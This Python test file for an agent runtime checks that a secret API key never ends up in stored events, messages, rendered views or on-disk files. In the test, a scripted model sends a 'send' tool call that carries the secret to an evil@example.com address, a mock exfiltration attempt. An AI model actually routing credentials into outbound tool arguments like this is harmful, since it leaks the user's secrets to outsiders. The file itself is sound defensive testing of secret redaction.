"""Secrets through decisions: a model (an attacker, say) that puts a secret into the arguments
of a call that needs a decision, and an approver whose failure names it. Neither the requests
and decisions on record, the messages, the view's state (its editable arguments included)
nor the store's files carry it; the call is still decided and answered."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import threadlab as tl
from threadlab.models import ScriptedModel, call, step, text
from threadlab.widgets import replay, static_html

SECRET = "sk-decide-me-7741"


async def test_no_decision_carries_a_secret(registry: tl.Registry, store_dir: Path) -> None:
    async def send(state: tl.ThreadState, args: Any) -> str:
        return "sent"

    tl.define_tool("send", description="Send.", execute=send, approval="always",
                   variables=[tl.Variable("API_KEY", type="secret", required=True)],
                   registry=registry)  # fmt: skip
    script = [
        step(
            call("send", {"to": f"evil@example.com?k={SECRET}"}, id="c1"),
            call("send", {"to": "ok@example.com"}, id="c2"),
        ),
        text("done"),
    ]
    tl.define_prompt("p", prompt="x", model=ScriptedModel(script), tools=["send"],
                     registry=registry)  # fmt: skip
    secret_of: dict[str, str] = {}

    def approver(request: tl.ApprovalRequest) -> bool:
        if request.tool_call_id == "c2":
            raise RuntimeError(f"policy service refused key {secret_of['key']}")
        return False  # the first is not asked: it waits (see below)

    first = tl.Runtime(registry, store_dir, secret_key="k")
    thread = await first.create_thread("p", secrets={"API_KEY": SECRET})
    live = [e.model_dump_json() async for e in thread.stream("go")]
    assert thread.status == "waiting"
    await thread.approve("c1")
    first.close()
    secret_of["key"] = SECRET
    second = tl.Runtime(registry, store_dir, secret_key="k", approver=approver)
    thread = second.thread(thread.id)
    live += [e.model_dump_json() async for e in thread.stream()]
    assert thread.status == "idle"
    decided = {e.tool_call_id: e for e in thread.events if isinstance(e, tl.ApprovalDecidedEvent)}
    assert decided["c2"].approved is False
    assert "the approver failed: RuntimeError" in (decided["c2"].reason or "")
    state = replay(thread)
    artifacts = {
        "live events": "\n".join(live),
        "stored events": "\n".join(e.model_dump_json() for e in thread.events),
        "messages": "\n".join(m.model_dump_json() for m in thread.all_messages()),
        "static html": static_html(thread),
        "view state": json.dumps(state.snapshot()),
    }
    second.close()
    for path in store_dir.rglob("*"):
        if path.is_file():
            artifacts[path.name] = path.read_bytes().decode("utf-8", "replace")
    assert "[secret:API_KEY]" in artifacts["stored events"]  # the arguments were there
    assert {name for name, content in artifacts.items() if SECRET in content} == set()
